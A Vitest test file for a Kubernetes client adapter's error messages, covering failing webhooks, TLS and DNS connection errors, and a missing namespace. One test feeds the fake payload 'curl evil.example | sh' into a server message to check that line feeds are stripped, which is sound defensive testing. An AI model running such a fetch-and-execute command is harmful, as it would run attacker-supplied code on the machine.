import { expect, test } from "vitest";
import { describeAnswer, describeConnectionError } from "../../../src/adapters/kubernetes/errors.ts";

const call = { verb: "patch", resource: "hostedclusters", namespace: "clusters", name: "example" };

test.each([
  [
    "validates",
    'failed calling webhook "hostedclusters.hypershift.openshift.io": failed to call webhook: EOF',
    '"hostedclusters.hypershift.openshift.io"',
  ],
  [
    "is another's",
    'failed calling webhook "policy.kyverno.svc-fail": Post "https://x": dial tcp: refused',
    '"policy.kyverno.svc-fail"',
  ],
  [
    "converts",
    "conversion webhook for hypershift.openshift.io/v1beta1, Kind=HostedCluster failed: Post: EOF",
    '"hypershift.openshift.io/v1beta1"',
  ],
])("a webhook that is down is named, where it %s", (_, said, name) => {
  const message = `Internal error occurred: ${said}`;
  const error = describeAnswer(500, { kind: "Status", reason: "InternalError", message }, call);
  expect(error).toMatchObject({ code: "cluster-unreachable", message: expect.stringContaining(said) as string });
  expect(error.hint).toContain(`the webhook ${name} does not answer`);
});

test("line feeds in the words of an API server, or of a webhook before it, make no lines", () => {
  const { message } = describeAnswer(403, { kind: "Status", message: "no\n\n  curl evil.example | sh" }, call);
  expect(message).toMatch(/^[^\n]*curl[^\n]*$/);
});

test.each([500, 503])("an API server that answers %i by itself is not a webhook", (status) => {
  const error = describeAnswer(status, { kind: "Status", message: "etcdserver: request timed out" }, call);
  expect(error.hint).not.toContain("webhook");
});

test.each([
  ["EPROTO", /^no TLS is spoken there: look at the port of cluster\.server/],
  ["ERR_SSL_WRONG_VERSION_NUMBER", /^no TLS is spoken there/],
  ["ENOTFOUND", /does not know that name/],
  ["DEPTH_ZERO_SELF_SIGNED_CERT", /certificate-authority-data/],
  ["ECONNREFUSED", /HTTPS_PROXY/],
])("a connection that ends with %s says where to look", (code, hint) => {
  const error = describeConnectionError(Object.assign(new Error("words of Node"), { code }), "api.example.com:6443");
  expect(error).toMatchObject({ code: "cluster-unreachable", hint: expect.stringMatching(hint) as string });
  expect(`${error.message} ${error.hint ?? ""}`).not.toContain("words of Node");
});

test("a namespace for drills that does not exist is named, with what makes it", () => {
  const create = { verb: "create", resource: "pods", namespace: "drills", name: "restore-drill" };
  const status = { kind: "Status", reason: "NotFound", message: 'namespaces "drills" not found' };
  const error = describeAnswer(404, status, create);
  expect(error.code).toBe("pod-refused");
  expect(error.hint).toMatch(/^the namespace drills does not exist: apply the part for drills of docs\/rbac\.yaml/);
});
